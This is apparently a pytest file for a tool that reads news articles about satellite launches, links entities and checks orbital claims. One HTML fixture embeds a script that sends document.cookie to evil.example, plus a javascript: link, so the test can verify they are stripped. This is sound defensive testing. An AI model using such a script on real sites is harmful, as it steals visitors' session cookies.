"""Articles and entity linking on short texts written for these tests."""

import json
import os
import subprocess
import sys
from datetime import date

import pytest

from desktop.core.articles import ArticleError, MAX_ARTICLE_BYTES, read_article
from desktop.core.claims import find_claims
from desktop.core.entities import link_entities
from desktop.core.atlas import country_region
from desktop.core.access import Criterion
from desktop.core.revisit import analyse

SAMPLE = ("Tehran, 12 March 2024. The Khayam satellite, launched on a Soyuz-2.1b from Baikonur, "
          "was heard at the Mahdasht station on Tuesday. Israeli and Ukrainian officials watched the Middle East "
          "closely; Zafar 2 and Kowsar flew later from Vostochny in eastern Russia on February 24.")


def spans(entities):
    return {(e.kind, e.text): (e.start, e.end, e.resolved) for e in entities}


def test_every_kind_is_found_with_its_span(catalog):
    ents = link_entities(SAMPLE, catalog)
    found = spans(ents)
    for kind, text in [("city", "Tehran"), ("date", "12 March 2024"), ("satellite", "Khayam"),
                       ("launch vehicle", "Soyuz-2.1b"), ("launch site", "Baikonur"), ("ground station", "Mahdasht station"),
                       ("date", "Tuesday"), ("country", "Israeli"), ("country", "Ukrainian"), ("region", "Middle East"),
                       ("satellite", "Zafar 2"), ("satellite", "Kowsar"), ("launch site", "Vostochny"),
                       ("region", "eastern Russia"), ("date", "February 24")]:
        assert (kind, text) in found, (kind, text)
        start, end, _ = found[(kind, text)]
        assert SAMPLE[start:end] == text
    assert found[("satellite", "Khayam")][2] == "KHAYYAM (NORAD 53370)"
    assert found[("satellite", "Zafar 2")][2].startswith("ZAFAR-2")
    assert found[("country", "Israeli")][2] == "Israel"
    assert found[("date", "Tuesday")][2] == "2024-03-12"  # the article's date was a Tuesday
    assert found[("date", "February 24")][2] == "2024-02-24"


def test_relative_dates_count_from_the_article_date(catalog):
    text = "Officials said yesterday that the launch last week went well; on Friday more followed."
    ents = {e.text: e for e in link_entities(text, catalog, article_date=date(2025, 12, 30))}
    assert ents["yesterday"].value["date"] == "2025-12-29"
    assert ents["last week"].value["date"] == "2025-12-23"
    assert ents["Friday"].value["date"] == "2025-12-26"
    unknown = {e.text: e for e in link_entities(text, catalog)}
    assert unknown["yesterday"].value["date"] is None


def test_times_with_zones_become_utc(catalog):
    text = "Lift-off came at 16:48 Tehran time on 28 December 2025 from Vostochny."
    time_entity = next(e for e in link_entities(text, catalog) if e.kind == "time")
    assert time_entity.value["datetime"] == "2025-12-28T13:18:00Z"


@pytest.mark.parametrize("text", [
    "He told us that the papaya harvest was fine.",
    "They ate turkey and drank aqua minerale in the terra cotta room.",
    "It may 5 times rain; chad and jordan are our friends' names in lower case.",
    "The iranian-style papayas were us-grown.",
    "Our display shows a sentinel at the gate.",
])
def test_ordinary_words_are_not_entities(catalog, text):
    assert link_entities(text, catalog) == []


def test_us_in_capitals_is_the_united_states(catalog):
    ents = link_entities("The US and the U.S. Space Force.", catalog)
    assert [e.resolved for e in ents] == ["United States of America", "United States of America"]


def test_html_is_reduced_to_inert_text(tmp_path):
    page = tmp_path / "story.html"
    page.write_text("""<!DOCTYPE html><html><head><title>Launch day</title>
        <meta property="article:published_time" content="2022-08-09T10:00:00Z">
        <script>document.location='http://evil.example/'+document.cookie</script>
        <style>body{background:url(http://tracker.example/p.png)}</style></head>
        <body><p>Khayyam reached orbit.</p><img src="http://tracker.example/pixel.gif">
        <iframe src="http://ads.example/frame"></iframe>
        <p>More at <a href="https://example.org/story">the agency</a> and
        <a href="javascript:alert(1)">click</a>.</p><object data="x.swf"></object></body></html>""")
    article = read_article(page)
    assert article.title == "Launch day" and article.published == date(2022, 8, 9)
    assert "Khayyam reached orbit." in article.text
    for bad in ("document.location", "evil.example", "tracker.example", "ads.example", "background", "swf"):
        assert bad not in article.text
    assert article.links == [("the agency", "https://example.org/story")]


def test_bad_files_give_clear_errors(tmp_path):
    binary = tmp_path / "photo.html"
    binary.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 10)
    with pytest.raises(ArticleError, match="binary"):
        read_article(binary)
    empty = tmp_path / "empty.txt"
    empty.write_text("   \n")
    with pytest.raises(ArticleError, match="empty"):
        read_article(empty)
    big = tmp_path / "big.txt"
    big.write_bytes(b"a" * (MAX_ARTICLE_BYTES + 1))
    with pytest.raises(ArticleError, match="too large"):
        read_article(big)
    with pytest.raises(ArticleError, match="cannot open"):
        read_article(tmp_path / "missing.txt")
    only_script = tmp_path / "script.html"
    only_script.write_text("<html><body><script>var x = 1;</script></body></html>")
    with pytest.raises(ArticleError, match="no readable text"):
        read_article(only_script)


def test_common_encodings(tmp_path):
    text = "Kowsar launched from Vostochny – “three” satellites, café"
    for encoding, name in (("cp1252", "a.txt"), ("utf-16", "b.txt"), ("utf-8-sig", "c.txt"), ("utf-8", "d.md")):
        path = tmp_path / name
        path.write_bytes(text.encode(encoding))
        assert read_article(path).text == text


def test_pass_count_claim_is_checked_against_the_engine(catalog):
    text = "Iran's space agency said the Khayyam satellite will pass over Iran four times a day."
    ents = link_entities(text, catalog)
    claims = [c for c in find_claims(text, ents, catalog, window_days=10) if c.kind == "passes"]
    assert len(claims) == 1
    c = claims[0]
    assert c.claimed == "four passes a day over Iran"
    es = catalog.find("KHAYYAM")
    reference = analyse([es], country_region("Iran"), Criterion("contact", elevation_deg=10), es.epoch_s, es.epoch_s + 10 * 86400)
    assert c.computed.startswith(f"{reference.stats[53370].passes_per_day:.1f} a day")
    assert "10° elevation" in c.settings and "approximate" in c.settings


def test_height_period_and_launch_claims(catalog):
    text = ("The Khayyam satellite orbits at an altitude of 500 km, circling the Earth every 94 minutes. "
            "It was launched from Baikonur at 05:52 UTC on 9 August 2022. Its camera has a resolution of 1 m.")
    ents = link_entities(text, catalog)
    kinds = {c.kind: c for c in find_claims(text, ents, catalog, compute=False)}
    assert kinds["height"].agrees and kinds["period"].agrees
    assert kinds["launch"].agrees  # a 10:06 pad time fits the 10:00 node
    assert "µrad" in kinds["resolution"].computed


def test_cli_article_json(tmp_path):
    path = tmp_path / "note.md"
    path.write_text("# Launch\n\nOn 28 December 2025 **Paya** left Vostochny; officials in Tehran said it passes over Iran "
                    "three times a day.\n")
    out = subprocess.run([sys.executable, "-m", "desktop", "article", str(path), "--json"], capture_output=True,
                         text=True, env=dict(os.environ), timeout=120)
    assert out.returncode == 0, out.stderr
    data = json.loads(out.stdout)
    kinds = {e["kind"] for e in data["entities"]}
    assert {"satellite", "launch site", "city", "country", "date"} <= kinds
    assert data["claims"] and data["claims"][0]["kind"] == "passes"
    assert "PAYA" in data["approximate_elements"]
    bad = subprocess.run([sys.executable, "-m", "desktop", "article", str(tmp_path / "none.txt")], capture_output=True,
                         text=True, env=dict(os.environ), timeout=120)
    assert bad.returncode == 2 and bad.stderr.count("\n") == 1
